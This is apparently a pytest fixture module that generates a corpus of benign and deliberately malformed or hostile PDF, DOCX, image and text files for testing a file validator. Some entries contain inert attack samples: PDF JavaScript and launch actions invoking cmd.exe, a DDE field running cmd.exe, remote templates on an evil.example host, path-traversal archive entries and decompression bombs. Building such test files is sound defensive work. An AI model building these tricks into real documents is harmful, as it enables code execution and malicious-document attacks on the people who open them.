"""Files made for the tests: sound ones and hostile ones, by name. Nothing hostile is kept in the repository."""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pikepdf
import pytest
from pikepdf import Array, Dictionary, Name, Pdf, String
from PIL import Image, ImageDraw, ImageFont

from .unit.builders import REL, TEXT, docx, flate_bomb, image, pdf


def _open_action(**keys: Any) -> Callable[[Pdf], None]:
    def change(document: Pdf) -> None:
        document.Root.OpenAction = Dictionary(Type=Name.Action, **keys)

    return change


def _attached(document: Pdf) -> None:
    document.attachments["invoice.xml"] = b"<invoice/>"


def _form_with_link(document: Pdf) -> None:
    field = document.make_indirect(
        Dictionary(
            Type=Name.Annot,
            Subtype=Name.Widget,
            FT=Name.Tx,
            T=String("name"),
            Rect=Array([0, 0, 90, 20]),
            V=String("Ada"),
        )
    )
    link = document.make_indirect(
        Dictionary(
            Type=Name.Annot,
            Subtype=Name.Link,
            Rect=Array([0, 0, 9, 9]),
            A=Dictionary(S=Name.URI, URI=String("https://example.org/")),
        )
    )
    document.pages[0].Annots = Array([field, link])
    document.Root.AcroForm = Dictionary(Fields=Array([field]))


def _script_link(document: Pdf) -> None:
    action = Dictionary(S=Name.URI, URI=String("JavaScript:app.alert(1)"))
    document.pages[0].Annots = Array(
        [Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=Array([0, 0, 9, 9]), A=action)]
    )


def _hidden_script(document: Pdf) -> None:
    document.Root.Unused = document.make_indirect(Array([Dictionary(Deep=Array([Dictionary(S=Name.JavaScript)]))]))


def _xfa(document: Pdf) -> None:
    document.Root.AcroForm = Dictionary(
        Fields=Array([]), XFA=document.make_stream(b"<template><script>1</script></template>")
    )


def _relation(kind: str, target: str, mode: str = ' TargetMode="External"') -> str:
    return f'<Relationship Id="r9" Type="{REL}/{kind}" Target="{target}"{mode}/>'


def _relations(kind: str, target: str) -> bytes:
    return f"<R>{_relation(kind, target)}</R>".encode()


def _docx_twice() -> bytes:
    out = io.BytesIO(docx())
    with pytest.warns(UserWarning, match="Duplicate name"), zipfile.ZipFile(out, "a") as archive:
        archive.writestr("word/document.xml", b"<other/>")
    return out.getvalue()


def _docx_bad_crc() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(docx())) as source, zipfile.ZipFile(out, "w", zipfile.ZIP_STORED) as target:
        for name in source.namelist():
            target.writestr(name, source.read(name))
    return out.getvalue().replace(b"budget", b"BUDGET")


def _huge_png() -> bytes:
    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    header = struct.pack(">IIBBBBB", 60_000, 60_000, 8, 0, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", zlib.compress(b"\0" * 10)) + chunk(b"IEND", b"")
    )


def page_image(text: str = TEXT, turn: int = 0) -> Image.Image:
    """A page as a scanner would see it, 200 dpi."""
    sheet = Image.new("L", (1654, 1200), 255)
    font = ImageFont.load_default(size=34)
    words, lines = text.split(), [""]
    for word in words:
        if len(lines[-1]) + len(word) > 60:
            lines.append("")
        lines[-1] = f"{lines[-1]} {word}".strip()
    ImageDraw.Draw(sheet).multiline_text((120, 150), "\n".join(lines), font=font, fill=0, spacing=18)
    return sheet.rotate(turn, expand=True)


def scan(turn: int = 0) -> bytes:
    """A PDF that is only a picture."""
    out = io.BytesIO()
    page_image(turn=turn).save(out, "PDF", resolution=200)
    return out.getvalue()


FILES: dict[str, Callable[[], bytes]] = {
    "pdf": pdf,
    "pdf with a form and a link": lambda: pdf(_form_with_link),
    "pdf with an owner password only": lambda: pdf(encryption=pikepdf.Encryption(owner="o", user="")),
    "pdf with javascript": lambda: pdf(_open_action(S=Name.JavaScript, JS=String("app.alert(1)"))),
    "pdf with an escaped javascript name": lambda: pdf(
        _open_action(S=Name.JavaScript, JS=String("app.alert(1)"))
    ).replace(b"/JavaScript", b"/J#61vaScript"),
    "pdf with a launch action": lambda: pdf(_open_action(S=Name.Launch, F=String("cmd.exe"))),
    "pdf with an embedded file": lambda: pdf(_attached),
    "pdf with a script link": lambda: pdf(_script_link),
    "pdf with javascript in an object stream": lambda: pdf(
        _hidden_script, object_stream_mode=pikepdf.ObjectStreamMode.generate
    ),
    "pdf with a scripted xfa form": lambda: pdf(_xfa),
    "pdf with a password": lambda: pdf(encryption=pikepdf.Encryption(owner="o", user="u")),
    "pdf cut short": lambda: pdf(pages=3)[:-300],
    "pdf with data after its end": lambda: pdf() + b"<script>alert(1)</script>",
    "pdf that is a zip too": lambda: docx(before=pdf()),
    "pdf behind a prefix": lambda: b"GIF89a" + pdf(),
    "pdf that is only a header": lambda: b"%PDF-1.7\n%%EOF\n",
    "pdf bomb": flate_bomb,
    "pdf with a bomb on its second page": lambda: flate_bomb(300, pages=3),
    "docx": docx,
    "docx with macros": lambda: docx({"word/vbaProject.bin": b"x"}),
    "docx with a macro type": lambda: docx(main_type="application/vnd.ms-word.document.macroEnabled.main+xml"),
    "docx with activex": lambda: docx({"word/activeX/activeX1.xml": b"<a/>"}),
    "docx with an ole object": lambda: docx({"word/embeddings/oleObject1.bin": b"x"}),
    "docx with a remote template": lambda: docx(
        {"word/_rels/settings.xml.rels": _relations("attachedTemplate", "https://evil.example/t.dotm")}
    ),
    "docx with a template on a share": lambda: docx(
        {"word/_rels/settings.xml.rels": _relations("attachedTemplate", "file://evil.example/t.dotm")}
    ),
    "docx with a local template": lambda: docx(
        {"word/_rels/settings.xml.rels": _relations("attachedTemplate", "file:///C:/Users/a/Call.dotx")}
    ),
    "docx with a link": lambda: docx(relations=_relation("hyperlink", "https://example.org/")),
    "docx with a remote part": lambda: docx(relations=_relation("frame", "https://evil.example/")),
    "docx with dde": lambda: docx(
        body="<w:p><w:r><w:instrText>DDE</w:instrText></w:r><w:r><w:instrText>AUTO cmd.exe</w:instrText></w:r></w:p>"
    ),
    "docx with entities": lambda: docx({"word/x.xml": b'<!DOCTYPE a [<!ENTITY b "c">]><a>&b;</a>'}),
    "docx with a path": lambda: docx({"../evil.xml": b"<a/>"}),
    "docx with an absolute path": lambda: docx({"/etc/evil.xml": b"<a/>"}),
    "docx with a part twice": _docx_twice,
    "docx with a wrong crc": _docx_bad_crc,
    "docx bomb": lambda: docx({"word/media/big.bmp": b"\0" * (40 << 20)}),
    "docx without a document": lambda: docx(main_type="application/xml"),
    "docx that is any zip": lambda: _plain_zip(),
    "docx behind a prefix": lambda: docx(before=b"PK\x03\x04 not an archive"),
    "docx with a tail": lambda: docx() + b"tail",
    "docx that is an encrypted ole": lambda: (
        b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600 + "EncryptedPackage".encode("utf-16-le")
    ),
    "docx that is an old doc": lambda: (
        b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600 + "WordDocument".encode("utf-16-le")
    ),
    "png": lambda: image("PNG"),
    "png cut short": lambda: image("PNG")[:-40],
    "png with data after its end": lambda: image("PNG") + b"<script>",
    "png with a wrong crc": lambda: image("PNG")[:60] + b"\0\0\0\0" + image("PNG")[64:],
    "png with too many pixels": _huge_png,
    "jpeg": lambda: image("JPEG"),
    "jpeg cut short": lambda: image("JPEG")[:-300],
    "jpeg with data after its end": lambda: image("JPEG") + b"PK\x03\x04",
    "text": lambda: TEXT.encode(),
    "text with markup": lambda: b"<script>alert(1)</script> is only text",
    "text in utf-16": lambda: TEXT.encode("utf-16"),
    "text in latin-1": lambda: "Förderung".encode("latin-1"),
    "text with a nul": lambda: b"abc\0def",
    "text that is a program": lambda: b"\x7fELF\x02\x01\x01\0",
    "nothing": lambda: b"",
    "scan": scan,
    "scan upside down": lambda: scan(180),
}


def _plain_zip() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("readme.txt", "hello")
    return out.getvalue()


@pytest.fixture(scope="session")
def make() -> Callable[[str], bytes]:
    """The bytes of a file of the corpus, by its name."""
    return lambda name: FILES[name]()


@pytest.fixture
def put(tmp_path: Path) -> Callable[[str, str], Path]:
    """Writes a file of the corpus under a name and returns where."""

    def write(name: str, filename: str) -> Path:
        path = tmp_path / filename
        path.write_bytes(FILES[name]())
        return path

    return write
